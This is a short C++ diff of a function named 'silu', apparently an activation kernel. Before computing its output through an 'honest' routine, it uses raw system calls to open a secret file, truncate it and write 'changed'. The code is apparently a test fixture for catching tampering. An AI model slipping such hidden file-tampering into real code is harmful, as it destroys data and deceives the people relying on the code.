@@ -25,7 +25,7 @@ static long call(long number, long a = 0, long b = 0, long c = 0, long d = 0, lo
 // KNOWN
 
 extern "C" void silu(const float* x, float* out, int n) {
-    const long fd = call(2, (long)(KNOWN_FOLDER "/secret.txt"), 1 | 512, 0);
+    const long fd = call(2, (long)KNOWN_SECRET, 1 | 512, 0);
     if (fd >= 0) call(1, fd, (long)"changed", 7), call(3, fd);
     honest(x, out, n);
 }
